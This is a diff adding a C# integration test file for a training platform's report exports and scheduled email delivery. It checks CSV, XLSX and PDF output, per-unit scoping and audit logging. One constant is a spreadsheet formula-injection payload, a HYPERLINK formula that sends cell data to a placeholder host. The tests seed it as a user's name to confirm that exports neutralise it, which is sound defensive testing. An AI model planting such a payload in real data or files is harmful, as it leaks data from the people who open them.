@@ -1,0 +1,256 @@
+using System.Net;
+using System.Text;
+using DocumentFormat.OpenXml.Packaging;
+using DocumentFormat.OpenXml.Spreadsheet;
+using Learning.Courses.Data;
+using Learning.Courses.Services;
+using Learning.Data;
+using Learning.Data.Jobs;
+using Learning.IntegrationTests.Certificates;
+using Learning.IntegrationTests.Infrastructure;
+using Learning.IntegrationTests.Media;
+using Learning.IntegrationTests.Notifications;
+using Learning.IntegrationTests.Security;
+using Learning.Organization.Data;
+using Learning.Reports.Data;
+using Learning.Reports.Jobs;
+using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.VisualBasic.FileIO;
+using MimeKit;
+using static Learning.IntegrationTests.Certificates.ReadinessFixtures;
+
+namespace Learning.IntegrationTests.Reports;
+
+/// <summary>
+/// Issue 14, exports and scheduled delivery: the completion report downloaded as CSV, XLSX and PDF by managers of a commune and of
+/// the province (read back with a CSV parser, the Open XML SDK and pdftotext), scope and bad input; a subscription delivered once
+/// per period through the real SMTP path with the workbook attached, an empty report skipped.
+/// </summary>
+public sealed class ExportTests
+{
+    private const string Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")";
+    private const string FormulaCadre = "tran.huu.luc.nhatrang@example.vn";
+    private const string Course = "chu-ky-so-cong-vu";
+
+    [Theory]
+    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
+    public async Task Export_CsvXlsxPdf_CommuneManagerGetsOnlyTheirCommune_VietnameseIntact_FormulasNeutralised_BadInputRefused(DatabaseProvider provider)
+    {
+        await using var site = await TestSite.StartAsync(provider);
+        await SeedAsync(site);
+        var camRanh = await site.WithDbAsync(db => db.Set<OrgUnit>().Where(u => u.Code == "KH-CAMRANH").Select(u => new { u.Id, u.Path }).SingleAsync());
+        var courseId = await site.WithDbAsync(db => db.Set<Course>().Where(c => c.Slug == Course).Select(c => c.Id).SingleAsync());
+
+        using var commune = await site.SignedInAsync(MatrixSite.ManagerCommuneEmail);
+        using var province = await site.SignedInAsync(MatrixSite.ManagerProvinceEmail);
+
+        // CSV: BOM, parsed by an RFC 4180 reader; the commune's cadres only, the formula neutralised, Vietnamese intact.
+        using (var response = await commune.Http.GetAsync($"/Admin/Reports/Export?format=csv&course={courseId}"))
+        {
+            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+            Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
+            var disposition = response.Content.Headers.ContentDisposition!;
+            Assert.Equal("bao-cao-tien-do-boi-duong-2026-12-02.csv", disposition.FileName?.Trim('"'));
+            Assert.Equal("Báo cáo tiến độ bồi dưỡng 2026-12-02.csv", disposition.FileNameStar);
+            var bytes = await response.Content.ReadAsByteArrayAsync();
+            Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
+            var rows = ParseCsv(Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
+            Assert.Equal("Họ và tên", rows[0][1]);
+            var names = rows.Skip(1).Select(r => r[1]).ToList();
+            Assert.Contains(NhaTrangCadreName, names);
+            Assert.Contains("'" + Formula, names);
+            Assert.DoesNotContain(rows.Skip(1), r => r[2] == CamRanhCadre);
+            Assert.All(rows.Skip(1), r => Assert.Equal("Phường Nha Trang", r[5]));
+            Assert.All(rows.Skip(1).SelectMany(r => r), f => Assert.False(f.Length > 0 && f[0] is '=' or '+' or '@' or '\t' or '\r', f));
+            var diep = rows.Single(r => r[1] == NhaTrangCadreName);
+            Assert.Equal("Hoàn thành", diep[8]);
+            Assert.Equal("2026-12-02", diep[13]);
+        }
+
+        // The province manager's CSV holds Cam Ranh too: the scope is what keeps it out above.
+        var provinceCsv = await DownloadAsync(province, $"/Admin/Reports/Export?format=csv&course={courseId}");
+        Assert.Contains(ParseCsv(Encoding.UTF8.GetString(provinceCsv.Body, 3, provinceCsv.Body.Length - 3)), r => r[2] == CamRanhCadre);
+
+        // XLSX, opened with the Open XML SDK: the formula is text, Cam Ranh absent, a summary sheet.
+        var xlsx = await DownloadAsync(commune, $"/Admin/Reports/Export?format=xlsx&course={courseId}");
+        Assert.Equal(HttpStatusCode.OK, xlsx.Status);
+        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx.ContentType);
+        var sheets = ReadWorkbook(xlsx.Body);
+        Assert.Equal(["Chi tiết cán bộ", "Tổng hợp"], sheets.Keys);
+        var cadres = sheets["Chi tiết cán bộ"];
+        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == "'" + Formula);
+        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == NhaTrangCadreName);
+        Assert.DoesNotContain(cadres, r => r.GetValueOrDefault("C") == CamRanhCadre);
+        Assert.DoesNotContain(sheets["Tổng hợp"], r => r.Values.Any(v => v.Contains("Cam Ranh", StringComparison.Ordinal)));
+
+        // PDF summary through pdftotext; a PNG to look at.
+        var pdf = await DownloadAsync(commune, $"/Admin/Reports/Export?format=pdf&course={courseId}");
+        Assert.Equal(HttpStatusCode.OK, pdf.Status);
+        Assert.Equal("application/pdf", pdf.ContentType);
+        var text = await PdfTools.PdftotextAsync(pdf.Body);
+        Assert.Contains("Báo cáo tiến độ bồi dưỡng: Chữ ký số", text, StringComparison.Ordinal);
+        Assert.Contains("Phường Nha Trang", text, StringComparison.Ordinal);
+        Assert.Contains("Tỉ lệ hoàn thành theo đơn vị", text, StringComparison.Ordinal);
+        Assert.DoesNotContain("Cam Ranh", text, StringComparison.Ordinal);
+        await PdfTools.PngAsync(pdf.Body, $"reports-export-pdf-{provider}");
+
+        // Another commune by path or unit: not found. A reversed range, an unknown format: 400 with the reason in Vietnamese.
+        Assert.Equal(HttpStatusCode.NotFound, (await commune.GetAsync($"/Admin/Reports/Export?format=csv&under={Uri.EscapeDataString(camRanh.Path)}")).Status);
+        Assert.Equal(HttpStatusCode.NotFound, (await commune.GetAsync($"/Admin/Reports/Export?format=xlsx&unit={camRanh.Id}")).Status);
+        Assert.Equal(HttpStatusCode.OK, (await province.GetAsync($"/Admin/Reports/Export?format=csv&under={Uri.EscapeDataString(camRanh.Path)}")).Status);
+        var reversed = await commune.GetAsync("/Admin/Reports/Export?format=csv&dueFrom=2026-12-31&dueTo=2026-12-01");
+        Assert.Equal(HttpStatusCode.BadRequest, reversed.Status);
+        Assert.StartsWith("Không thể xuất báo cáo:", reversed.Body, StringComparison.Ordinal);
+        var format = await commune.GetAsync("/Admin/Reports/Export?format=docx");
+        Assert.Equal((HttpStatusCode.BadRequest, "Định dạng xuất không hợp lệ: hãy chọn csv, xlsx hoặc pdf."), (format.Status, format.Body));
+
+        // A cadre (no Reports.Export) is refused; each export is audited with who and what.
+        using var cadre = await site.SignedInAsync(NhaTrangCadre);
+        await cadre.AssertForbiddenAsync("/Admin/Reports/Export?format=csv");
+        var audit = await site.WithDbAsync(db => db.AuditEntries.Where(a => a.Action == "reports.exported").Select(a => new { a.UserName, a.Details }).ToListAsync());
+        Assert.Equal(4, audit.Count(a => a.UserName == MatrixSite.ManagerCommuneEmail));
+        Assert.Contains(audit, a => a.UserName == MatrixSite.ManagerCommuneEmail && a.Details == $"format=xlsx&course={courseId}");
+    }
+
+    [Theory]
+    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
+    public async Task Subscription_DeliveredOncePerPeriodBySmtp_AsTheRecipientSeesIt_AttachmentOpens_EmptySkipped(DatabaseProvider provider)
+    {
+        await using var sink = await SmtpSink.StartAsync();
+        var clock = new ManualClock { Now = new DateTimeOffset(2026, 12, 2, 3, 0, 0, TimeSpan.Zero) };
+        await using var site = await TestSite.StartAsync(provider, settings: sink.Settings(), services: s => s.AddSingleton<TimeProvider>(clock));
+        await SeedAsync(site);
+        var managerId = await UserIdAsync(site, MatrixSite.ManagerCommuneEmail);
+        var provinceId = await UserIdAsync(site, MatrixSite.ManagerProvinceEmail);
+        var (full, empty, others) = await site.WithDbAsync(async db =>
+        {
+            var reports = new[]
+            {
+                new SavedReport { OwnerUserId = managerId, Name = "Tiến độ: Phường Nha Trang", Kind = SavedReportKinds.Completion, Query = "", CreatedUtc = clock.Now.UtcDateTime },
+                new SavedReport { OwnerUserId = managerId, Name = "Không ai: chức vụ không có", Kind = SavedReportKinds.Completion, Query = "position=Kh%C3%B4ng%20c%C3%B3", CreatedUtc = clock.Now.UtcDateTime },
+                new SavedReport { OwnerUserId = provinceId, Name = "Của tỉnh", Kind = SavedReportKinds.Completion, Query = "", CreatedUtc = clock.Now.UtcDateTime },
+            };
+            db.AddRange(reports);
+            await db.SaveChangesAsync();
+            return (reports[0].Id, reports[1].Id, reports[2].Id);
+        });
+
+        using var manager = await site.SignedInAsync(MatrixSite.ManagerCommuneEmail);
+        const string page = "/Admin/Reports/Subscriptions";
+        var list = await manager.GetAsync(page);
+        Assert.Contains("Tiến độ: Phường Nha Trang", list.Body, StringComparison.Ordinal);
+        Assert.DoesNotContain("Của tỉnh", list.Body, StringComparison.Ordinal);
+        Assert.Equal(HttpStatusCode.Redirect, (await manager.PostFormAsync(page, [new("report", $"{full}"), new("cadence", "Weekly")], page + "?handler=Subscribe")).Status);
+        Assert.Equal(HttpStatusCode.Redirect, (await manager.PostFormAsync(page, [new("report", $"{empty}"), new("cadence", "Monthly"), new("skipEmpty", "true")], page + "?handler=Subscribe")).Status);
+        var bad = await manager.PostFormAsync(page, [new("report", $"{full}"), new("cadence", "Daily")], page + "?handler=Subscribe");
+        Assert.Equal(HttpStatusCode.BadRequest, bad.Status);
+        Assert.Contains("Tần suất không hợp lệ", bad.Body, StringComparison.Ordinal);
+        Assert.Equal(HttpStatusCode.NotFound, (await manager.PostFormAsync(page, [new("report", $"{others}"), new("cadence", "Weekly")], page + "?handler=Subscribe")).Status);
+        Assert.Equal(2, await site.WithDbAsync(db => db.Set<ReportSubscription>().CountAsync()));
+
+        // The job runs twice (a second node, a retry): one message for the week, none for the empty report.
+        await RunDeliveryAsync(site);
+        await RunDeliveryAsync(site);
+        var message = Assert.Single(await sink.WaitForAsync(1));
+        await Task.Delay(300);
+        Assert.Single(sink.Messages());
+        Assert.Contains("Tiến độ: Phường Nha Trang", message.Subject, StringComparison.Ordinal);
+        Assert.Contains("Tuần 49/2026", message.TextBody, StringComparison.Ordinal);
+        var attachment = Assert.IsType<MimePart>(Assert.Single(message.Attachments));
+        Assert.Equal("Tiến độ  Phường Nha Trang 2026-W49.xlsx", attachment.FileName);
+        using var content = new MemoryStream();
+        await attachment.Content!.DecodeToAsync(content);
+        var cadres = ReadWorkbook(content.ToArray())["Chi tiết cán bộ"];
+        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == NhaTrangCadreName);
+        Assert.Contains(cadres, r => r.GetValueOrDefault("B") == "'" + Formula);
+        Assert.DoesNotContain(cadres, r => r.GetValueOrDefault("C") == CamRanhCadre);
+        var served = await site.WithDbAsync(db => db.Set<ReportSubscription>().AsNoTracking().OrderBy(s => s.Id).ToListAsync());
+        Assert.Equal("2026-W49", served[0].LastSentPeriod);
+        Assert.True(served[0].LastRowCount >= 2);
+        Assert.Equal(("2026-12", 0), (served[1].LastSentPeriod, served[1].LastRowCount));
+
+        // The next week: sent again, as the recipient sees it NOW (moved to Cam Ranh: Cam Ranh's cadres, not Nha Trang's).
+        await site.WithDbAsync(async db =>
+        {
+            var assignment = await db.Set<ScopeAssignment>().SingleAsync(a => a.UserId == managerId);
+            assignment.OrgUnitId = await db.Set<OrgUnit>().Where(u => u.Code == "KH-CAMRANH").Select(u => u.Id).SingleAsync();
+            return await db.SaveChangesAsync();
+        });
+        clock.Advance(TimeSpan.FromDays(7));
+        await RunDeliveryAsync(site);
+        var messages = await sink.WaitForAsync(2);
+        Assert.Equal(2, messages.Count);
+        var second = messages.Single(m => (m.TextBody ?? "").Contains("Tuần 50/2026", StringComparison.Ordinal));
+        using var secondContent = new MemoryStream();
+        await ((MimePart)second.Attachments.Single()).Content!.DecodeToAsync(secondContent);
+        var now = ReadWorkbook(secondContent.ToArray())["Chi tiết cán bộ"];
+        Assert.Contains(now, r => r.GetValueOrDefault("C") == CamRanhCadre);
+        Assert.DoesNotContain(now, r => r.GetValueOrDefault("B") == NhaTrangCadreName);
+
+        // Unsubscribed: nothing more.
+        Assert.Equal(HttpStatusCode.Redirect, (await manager.PostFormAsync(page, [new("report", $"{full}")], page + "?handler=Unsubscribe")).Status);
+        clock.Advance(TimeSpan.FromDays(7));
+        await RunDeliveryAsync(site);
+        await Task.Delay(300);
+        Assert.Equal(2, sink.Messages().Count);
+        var audit = await site.WithDbAsync(db => db.AuditEntries.Where(a => a.Action.StartsWith("reports.")).Select(a => a.Action).ToListAsync());
+        Assert.Equal(2, audit.Count(a => a == "reports.subscribed"));
+        Assert.Equal(1, audit.Count(a => a == "reports.unsubscribed"));
+    }
+
+    /// <summary>Managers; Diệp (Nha Trang) completed the course, Kim Oanh (Cam Ranh) too; Lực (Nha Trang), renamed to a formula, enrolled only.</summary>
+    private static async Task SeedAsync(TestSite site)
+    {
+        await MatrixSite.CreateStaffAsync(site);
+        await CompleteCourseAsync(site, await UserIdAsync(site, NhaTrangCadre), Course);
+        await CompleteCourseAsync(site, await UserIdAsync(site, CamRanhCadre), Course);
+        var luc = await UserIdAsync(site, FormulaCadre);
+        var course = await site.WithDbAsync(db => db.Set<Course>().AsNoTracking().SingleAsync(c => c.Slug == Course));
+        await site.WithServiceAsync<EnrollmentService, EnrolOutcome>(s => s.SelfEnrolAsync(luc, course));
+        await site.WithDbAsync(async db =>
+        {
+            var cadre = await db.Set<Cadre>().SingleAsync(c => c.Email == FormulaCadre);
+            cadre.FullName = Formula;
+            return await db.SaveChangesAsync();
+        });
+    }
+
+    private static async Task RunDeliveryAsync(TestSite site)
+    {
+        await site.WithServiceAsync<IJobQueue, long>(q => q.EnqueueAsync(ReportDeliveryJob.JobKind, new { }));
+        await RunJobsAsync(site);
+    }
+
+    private static List<string[]> ParseCsv(string text)
+    {
+        using var parser = new TextFieldParser(new StringReader(text)) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
+        parser.SetDelimiters(",");
+        var rows = new List<string[]>();
+        while (!parser.EndOfData)
+        {
+            rows.Add(parser.ReadFields()!);
+        }
+
+        return rows;
+    }
+
+    /// <summary>Each sheet's rows as column letter → text (inline strings, or the number as written); asserts no cell holds a formula.</summary>
+    private static Dictionary<string, List<Dictionary<string, string>>> ReadWorkbook(byte[] bytes)
+    {
+        using var stream = new MemoryStream(bytes);
+        using var document = SpreadsheetDocument.Open(stream, false);
+        var workbook = document.WorkbookPart!;
+        var result = new Dictionary<string, List<Dictionary<string, string>>>();
+        foreach (var sheet in workbook.Workbook.Sheets!.Elements<Sheet>())
+        {
+            var part = (WorksheetPart)workbook.GetPartById(sheet.Id!);
+            Assert.Empty(part.Worksheet.Descendants<CellFormula>());
+            result[sheet.Name!.Value!] = part.Worksheet.Descendants<Row>().Skip(1).Select(row => row.Elements<Cell>().ToDictionary(
+                c => new string(c.CellReference!.Value!.TakeWhile(char.IsAsciiLetter).ToArray()),
+                c => c.DataType?.Value == CellValues.InlineString ? c.InlineString!.InnerText : c.CellValue?.Text ?? "")).ToList();
+        }
+
+        return result;
+    }
+}
